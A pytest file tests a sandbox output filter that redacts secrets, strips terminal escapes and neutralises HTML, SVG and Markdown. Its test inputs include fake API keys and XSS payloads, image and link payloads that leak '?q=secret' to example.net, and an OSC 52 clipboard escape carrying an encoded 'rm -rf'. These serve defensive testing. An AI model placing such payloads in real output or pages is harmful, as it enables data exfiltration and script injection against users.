"""What leaves a sandbox: secrets, marked-up text and terminal escapes; each clause does something, and says what it did."""

from __future__ import annotations

import base64
import re
import time
from urllib.parse import quote
from xml.etree import ElementTree as ET

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from fumehood.execution import Display, ProgramError, Words
from fumehood.guard.formats import OPENERS, begins_in
from fumehood.guard.inert import Inert
from fumehood.guard.leaks import forms
from fumehood.guard.output import Filter
from fumehood.guard.terminal import is_plain
from fumehood.plan import plan
from fumehood.policy import Policy
from tests.plan.hosts import ROOT

SECRET = "hunter2-hunter2"  # noqa: S105 -- nobody's


def made(secrets: dict[str, str] | None = None, **clauses: object) -> Filter:
    policy = Policy.default().but(**{f"output.{name}": value for name, value in clauses.items()})
    return Filter(plan(policy, ROOT).output, policy, secrets)


# Each is put together here, so that nothing in the project looks like a key.
KEYS = {
    "Anthropic": "sk-" + "ant-api03-" + "aB3_" * 20,
    "OpenAI project": "sk-" + "proj-" + "aB3_" * 20,
    "OpenAI": "sk-" + "aB3d" * 12,
    "AWS": "AKIA" + "IOSFODNN7EXAMPLE",
    "GitHub": "ghp" + "_" + "aB3d" * 9,
    "GitHub fine": "github" + "_pat_" + "aB3d" * 9,
    "GitLab": "glpat" + "-" + "aB3d" * 5,
    "Slack": "xox" + "b-123456789012-abcdefABCDEF",
    "Google": "AIza" + "aB3d_" * 7,
    "Stripe": "sk_" + "live_" + "aB3d" * 6,
    "JWT": "eyJ" + "hbGciOiJIUzI1" + ".eyJ" + "zdWIiOiIxMjM0" + "." + "abcDEF123_-abc",
    "PEM": "-----BEGIN RSA " + "PRIVATE KEY-----\nMIIEow\nIBAAK\n-----END RSA PRIVATE KEY-----",
}
ENCODED = {
    "plain": SECRET,
    "reversed": SECRET[::-1],
    "base64": base64.b64encode(b"xy" + SECRET.encode()).decode(),
    "hex": SECRET.encode().hex(),
    "url": quote("a/" + SECRET, safe=""),
}


@pytest.mark.parametrize("key", KEYS.values(), ids=KEYS)
def test_keys_are_redacted_by_their_form(key: str) -> None:
    """In the middle of other text, and not with the clause off."""
    text = f"key = '{key}'\nnext"
    filtered = made().text(text)

    assert key[8:] not in filtered.text
    assert filtered.text.endswith("'\nnext")
    assert any(change.startswith("redacted: ") for change in filtered.changes)
    assert text == made(redact_secrets=False).text(text).text


@pytest.mark.parametrize("shown", ENCODED.values(), ids=ENCODED)
def test_known_secrets_are_redacted_in_any_encoding(shown: str) -> None:
    """A value that the broker knows is found however it was written."""
    filtered = made({"MAIL_KEY": SECRET}).text(f"<{shown}>")

    assert shown not in filtered.text
    assert {"redacted: MAIL_KEY": 1} == filtered.changes


@pytest.mark.parametrize(
    "text",
    [
        "sk-learn and sk-image",
        "eyJ is how it begins",
        "AKIA",
        "task-12345678901234567890123456789012",
        "-----BEGIN",
        "x" * 99,
    ],
)
def test_ordinary_text_stays(text: str) -> None:
    """What only begins like a key, or has one inside a longer word, is not one."""
    assert text == made().text(text).text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]8;;https://example.net/?q=1\x1b\\click\x1b]8;;\x1b\\", "click"),
        ("\x1b]52;c;cm0gLXJm\x07", ""),
        ("\x1bPq#0;2\x1b\\x", "x"),
        ("\x9b2J\x9d0;t\x9cx", "x"),
        ("\x1bcx\x1b(0y", "xy"),
        ("\x1b\x1b[31m[31mx", "[31mx"),
        ("a\tb\nc\r\nd", "a\tb\nc\r\nd"),
        ("safe\rEVIL\x08\x07\x00", "safe\nEVIL"),
        ("\x1b]0;never ended\nnext", "\nnext"),
    ],
)
def test_terminals_are_not_steered(text: str, expected: str) -> None:
    """CSI, OSC 8 and 52, DCS, C0 and C1; new lines and tabs stay; with the clause off all stays."""
    assert expected == made().text(text).text
    assert text == made(strip_terminal_escapes=False).text(text).text


@given(st.text(st.characters() | st.sampled_from("\x1b\x9b\x9d\x90\x07\x9c[]P\\;0m\r\n")))
def test_no_escape_is_left(text: str) -> None:
    """Nothing that is taken out leaves another one behind."""
    told = made().text(text).text
    assert not any(ord(character) < 32 and character not in "\n\t\r" for character in told)
    assert not any("\x7f" <= character <= "\x9f" for character in told)
    assert "\r" not in told.replace("\r\n", "\n")


LINES = ("-----BEGIN X-----", "-----END X-----", KEYS["PEM"][:31], KEYS["PEM"][-29:])
PARTS = ("word ", "\r\n", "s", "-", "eyJ", " ", SECRET[:7], SECRET[::-1], "\x1b]52;c;x\x07", "\x1b[31m")
PIECES = st.lists(st.sampled_from([*KEYS.values(), SECRET, *LINES, *PARTS]), max_size=6)


@example(["\x1b[31m", "ss", "sk-ant-api03-" + "aB3_" * 20], [7])
@example(["s", "sk-ant-api03-" + "aB3_" * 20, "sk-ant-api03-" + "aB3_" * 20], [2])
@example([SECRET, "-", SECRET], [15, 3, 6])
@example([SECRET, "-", SECRET], [24])
@example(["sk-ant-api03-" + "aB3_" * 4, "-----BEGIN", "aB3_aB3_ ", "word "], [40, 5])
@example(["-----BEGIN PRIVATE " + "KEY-----\nMIIE", "\n-----BEGIN", "\nIBAAK\n", "-----END PRIVATE KEY-----"], [45, 10])
@example(
    ["-----BEGIN PRIVATE " + "KEY-----\nMIIE", "\n-----END X-----", "\nIBAAK\n", "-----END PRIVATE KEY-----"], [55]
)
@example([SECRET, "glpat-" + "aB3d" * 5, "-----BEGIN", " X-----"], [50])
@given(PIECES, st.lists(st.integers(1, 30), min_size=1, max_size=40))
@settings(max_examples=300)
def test_pieces_are_filtered_as_the_whole(pieces: list[str], cuts: list[int]) -> None:
    """However output is cut into pieces, what is heard is what the result says."""
    by, text, heard = made({"k": SECRET}), "".join(pieces), list[str]()
    listener = by.listener(heard.append)
    start = 0
    for cut in cuts:
        if text[start : start + cut]:
            listener(text[start : start + cut])
        start += cut
    if text[start:]:
        listener(text[start:])
    listener.end()

    assert by.text(text).text == "".join(heard)


ENDLESS = {
    "token": "eyJ-",
    "key": "-----BEGIN PRIVATE " + "KEY-----\n",
    "sequence": "\x9d",
}


BOLD = "".join(f"<b id={n}>" for n in range(2000))
DEAR = {
    "formatting": ("text/html", f"<p>{BOLD}</p>" + "<p>x</p>" * 2000),
    "hidden ends": ("text/html", f"<p>{BOLD}</p><table><td>" + "</b>" * 2000 + "</table>" + "<p>x</p>" * 2000),
    "ends in an attribute": ("text/html", f"<p>{BOLD}<i title='{'</b>' * 2000}'></p>" + "<p>x</p>" * 2000),
    "lists": ("text/html", "<ul><li>" * 100_000),
    "shapes": ("image/svg+xml", "<svg>" + "<desc><div/>" * 100_000),
}


@pytest.mark.parametrize("kind", DEAR)
def test_markup_that_takes_much_more_to_read_than_it_is_long_is_left_out(kind: str) -> None:
    """It would take gigabytes or minutes of the caller's."""
    mime, text = DEAR[kind]
    began = time.process_time()
    shown, changes = made().display(Display(mime, text, len(text)))

    assert shown is None
    assert {"left out": 1} == dict(changes)
    assert time.process_time() - began < 5


def test_large_markup_of_an_ordinary_kind_is_shown() -> None:
    """Tables with marked cells, lists without ends, drawings of many closed shapes."""
    cells = "".join(f"<tr><th>{n}</th><td class='x'><a><b>v</b></a><br></td></tr>" for n in range(20_000))
    drawing = '<svg viewBox="0 0 9 9"><g id="a">' + '<use x="1" y="2"/><path d="M 0 0\nL 1 1" />' * 5_000 + "</g></svg>"
    for mime, text in (
        ("text/html", f"<div><style scoped>td {{ }}</style><table border=1>{cells}</table></div>"),
        ("text/html", "<ul>" + "<li>item" * 900 + "</ul>"),
        ("text/html", "<b><i><u>all of it"),
        ("image/svg+xml", drawing),
    ):
        shown, _ = made().display(Display(mime, text, len(text)))
        assert shown is not None
        assert len(shown.data) > len(text) / 2


def test_markdown_that_is_looked_at_again_and_again_is_shown_as_it_stands() -> None:
    """Escaped, once it has taken too long to find out what it means."""
    began = time.process_time()
    shown, _ = made().display(Display("text/markdown", "<![CDATA[" * 20_000, 180_000))

    assert shown is not None
    assert "<" not in shown.data.replace("\\<", "")
    assert time.process_time() - began < 5


@pytest.mark.parametrize("part", ENDLESS.values(), ids=ENDLESS)
def test_no_text_holds_up_who_reads_it(part: str) -> None:
    """What begins again and again and never ends takes a moment, not minutes."""
    text = part * (500_000 // len(part)) + "\n."
    began = time.process_time()
    made().text(text)
    listener = made().listener(list[str]().append)
    for start in range(0, len(text), 50_000):
        listener(text[start : start + 50_000])
    listener.end()

    assert time.process_time() - began < 5


@pytest.mark.parametrize("key", KEYS.values(), ids=KEYS)
def test_a_key_is_found_in_long_pieces(key: str) -> None:
    """Long text is searched another way than short text: wherever it is cut, the same is found."""
    by, filler = made({"k": SECRET}), "A line_of ordinary-text, by day 29. "
    for cut in range(len(key) + 1):
        heard = list[str]()
        listener = by.listener(heard.append)
        listener(filler * 90 + key[:cut])
        listener(key[cut:] + " " + filler * 90)
        listener.end()

        assert by.text(f"{filler * 90}{key} {filler * 90}").text == "".join(heard)
        assert key[8:] not in "".join(heard)


@pytest.mark.parametrize("key", KEYS.values(), ids=KEYS)
def test_a_key_right_after_a_secret_is_a_key(key: str) -> None:
    """What goes out in place of a secret's last characters is no word that the key would stand within."""
    for form in forms("zebra-quilt-8"):
        by, heard = made({"k": "zebra-quilt-8"}), list[str]()
        listener = by.listener(heard.append)
        for piece in (form, key, " end"):
            listener(piece)
        listener.end()

        assert by.text(f"{form}{key} end").text == "".join(heard)


WORDS = st.lists(st.sampled_from([*OPENERS, "task", "a", "9", "_", "-", ".", " ", "\n", "AGE", "xo", "é", "中"]))


@given(WORDS)
@settings(max_examples=300)
def test_long_text_is_searched_for_what_keys_begin_with(words: list[str]) -> None:
    """Each opener is seen where a key can begin, and nothing else is."""
    text = "".join(words)
    begins = any(re.search(f"(?<![A-Za-z0-9]){re.escape(each)}", text) for each in OPENERS) or "-----BEGIN" in text

    assert begins == begins_in(f"{' ' * 4000}{text}{' ' * 10}")


@given(st.text(st.characters() | st.sampled_from("\x1b\x9b\x85\x00\x7f\r\n\t°é")), st.booleans())
def test_plain_text_is_what_nothing_is_taken_out_of(text: str, long: bool) -> None:  # noqa: FBT001 -- drawn
    """The fast answer is the exact one."""
    text = "x" * 65535 + text if long else text
    assert is_plain(text) == (not re.search("[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f-\\x9f]", text))


def test_ordinary_output_is_not_held() -> None:
    """A line is heard when it is written; a listener waits for nothing that can't become a secret."""
    heard: list[str] = []
    listener = made().listener(heard.append)
    for piece in ("Loading", " 50%", "\n", "done.\n"):
        listener(piece)
    assert ["Loading", " 50%", "\n", "done.\n"] == heard


HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://example.net/?q=secret'>",
    "<a href='https://example.net/?q=secret'>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='//example.net/x'>x</a>",
    "<div style='background:url(https://example.net/x)'>x</div>",
    "<div style='background-color:red;color:u\\72l(https://example.net/x)'>x</div>",
    "<iframe src='https://example.net'></iframe>",
    "<form action='https://example.net'><input name=q></form>",
    "<link rel=stylesheet href='https://example.net/x.css'>",
    "<base href='https://example.net/'>",
    "<meta http-equiv=refresh content='0;url=https://example.net'>",
    "<svg><script>alert(1)</script><image href='https://example.net/x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<video src='https://example.net/x' poster='https://example.net/y'></video>",
    "<img srcset='https://example.net/x 1x'>",
    "<object data='https://example.net/x'></object>",
    "<style>@import url(https://example.net/x)</style>",
    "<img src='https://user@api.example.org/x'><img src='https://api.example.org.example.net/x'>",
]


@pytest.mark.parametrize("markup", HTML)
def test_html_runs_nothing_and_fetches_nothing(markup: str) -> None:
    """No script, handler, form, frame, style sheet, foreign picture or link is left."""
    shown, _ = made().display(Display("text/html", markup, len(markup)))
    assert shown is not None
    for word in ("script", "onerror", "example.net", "user@", "url(", "<form", "<iframe", "srcset", "javascript"):
        assert word not in shown.data.lower()
    assert markup == made(inert_html=False).display(Display("text/html", markup, len(markup)))[0].data  # type: ignore[union-attr]


def test_a_table_stays_a_table() -> None:
    """What pandas and its styler write is not touched in what matters."""
    table = '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th>a</th></tr></thead><tbody><tr><td style="background-color:#ff0">1</td></tr></tbody></table>'
    told = Inert().html(table) or ""
    for part in ('class="dataframe"', "<th>a</th>", "text-align:right", "background-color:#ff0"):
        assert part in told


def test_allowed_hosts_may_be_linked() -> None:
    """What the policy lets the code reach, an answer may link to and show."""
    inert = Inert(["*.example.org:443"])
    assert 'href="https://api.example.org/x"' in (inert.html("<a href='https://api.example.org/x'>x</a>") or "")
    assert "https://api.example.org/p.png" in inert.markdown("![x](https://api.example.org/p.png)")
    assert not inert.allows("http://api.example.org/x")
    assert not inert.allows("https://api.example.org:444/x")
    assert not inert.allows("https://api.example.org\\@example.net/x")


SVG = """<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "boom">]><svg xmlns="http://www.w3.org/2000/svg"
 xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" onload="alert(1)"><style>@import url(https://example.net/x)</style>
 <script>alert(1)</script><defs><clipPath id="c"><rect width="5"/></clipPath></defs><g clip-path="url(#c)"><path d="M0 0" style="fill: none; stroke: #000"/>
 <use xlink:href="#c"/><use xlink:href="https://example.net/x#y"/><image href="https://example.net/x"/><a href="javascript:alert(1)"><text>hi&#160;there</text></a>
 <set attributeName="href" to="https://example.net"/><animate attributeName="href" values="https://example.net"/>
 <foreignObject><body><img src="https://example.net/x" onerror="alert(1)"/></body></foreignObject><rect fill="url(https://example.net/x)"/></g></svg>"""


def test_svg_is_shapes_and_text() -> None:
    """It stays an XML picture, and refers to nothing outside itself."""
    shown, changes = made().display(Display("image/svg+xml", SVG, len(SVG)))
    assert shown is not None
    root = ET.fromstring(shown.data)  # noqa: S314 -- just made inert
    text = shown.data

    assert root.tag.endswith("svg")
    assert 'clip-path="url(#c)"' in text
    assert 'xlink:href="#c"' in text
    assert "stroke:#000" in text.replace(" ", "")
    for word in ("example.net", "script", "onload", "ENTITY", "foreignObject", "animate", "<set"):
        assert word not in text
    assert {"made inert": 1} == changes


MARKDOWN = [
    "![x](https://example.net/?q=secret)",
    "[click](https://example.net/?q=secret)",
    "![x][r]\n\n[r]: https://example.net/?q=secret",
    "[r]\n\n[r]: <https://example.net/?q=secret> 'title'",
    "<https://example.net/?q=secret>",
    "<img src='https://example.net/?q=secret'>",
    "![x](//example.net/?q=secret)",
    "![x](https&#58;//example.net/?q=secret)",
    "![a ![b](https://example.net/1)](https://example.net/2)",
    "[![x](https://example.net/1)](https://example.net/2)",
    "![x](\nhttps://example.net/?q=secret\n)",
    "![x](<https://example.net/?q=secret>)",
    '![x](https://example.net/a(b)c "title (x)")',
    "[x](javascript:alert\\(1\\))",
    "[x](data:text/html;base64,xx)",
    "* item\n  ![x](https://example.net/?q=secret)\n> ![y](https://example.net)",
    "!\\[x](https://example.net) ![x\\](https://example.net) ![`x](https://example.net)`](https://example.net)",
    "<!-- --!> <img src=https://example.net/x>",
]


@pytest.mark.parametrize("markdown", MARKDOWN)
def test_markdown_leads_nowhere(markdown: str) -> None:
    """As any reader of Markdown shows it, no picture is fetched and no link leads to a foreign host."""
    from markdown_it import MarkdownIt  # noqa: PLC0415 -- as a reader shows it

    answer = made().answer(f"The result is **42**.\n\n{markdown}\n")
    rendered = MarkdownIt("commonmark").render(answer.text)

    assert "<img" not in rendered
    assert "<a " not in rendered
    assert answer.changes["links and pictures"] == 1
    assert "42" in rendered


def test_an_ordinary_answer_stays() -> None:
    """Headings, lists, code and emphasis are not touched, nor code that speaks of links."""
    text = "# Sales\n\n* May: **12** & more < 13\n\n```html\n<a href='https://example.net'>x</a>\n```\n`![x](https://example.net)`\n"
    assert (text, {}) == tuple(made().answer(text))


def test_types_that_could_run_something_are_left_out() -> None:
    """Scripts and unknown text are no displays; pictures and data are."""
    by = made()
    for mime in ("application/javascript", "text/javascript", "application/xml", "text/x-anything", "image/tiff"):
        assert by.display(Display(mime, "x", 1))[0] is None
    for mime in ("image/png", "application/json", "application/vnd.plotly.v1+json", "text/plain"):
        assert by.display(Display(mime, "x", 1))[0] == Display(mime, "x", 1, inert=True)


def test_a_result_is_filtered_as_a_whole() -> None:
    """Every field that can hold text, and what was changed is said; data stays data but for secrets."""
    dirty = f"\x1b[1m{SECRET}"
    words = Words(
        value={"k": [SECRET, "\x1b[1m", 1.5]},
        value_text=dirty,
        stdout=dirty,
        stderr="clean",
        error=ProgramError("E", dirty, 1, dirty),
        displays=(Display("text/plain", dirty, 9), Display("text/javascript", "x", 1)),
    )
    kept, said = made({"k": SECRET}).words(words)

    assert SECRET not in repr(kept)
    assert {"k": ["[redacted: k]", "\x1b[1m", 1.5]} == kept.value
    assert {"stdout", "value_text", "value", "error", "displays"} == set(said)
    assert "clean" == kept.stderr
    assert {"terminal escapes": 1, "redacted: k": 1} == said["stdout"]
    assert {"terminal escapes": 1, "redacted: k": 1, "left out": 1} == said["displays"]


def test_the_control_says_what_holds() -> None:
    """Each clause that is off makes the control weaker, and it says which."""
    assert "enforced" == made().control.status
    assert ("weaker", True) == (made(inert_html=False).control.status, "not HTML" in made(inert_html=False).control.how)
    assert "absent" == made(inert_html=False, redact_secrets=False, strip_terminal_escapes=False).control.status
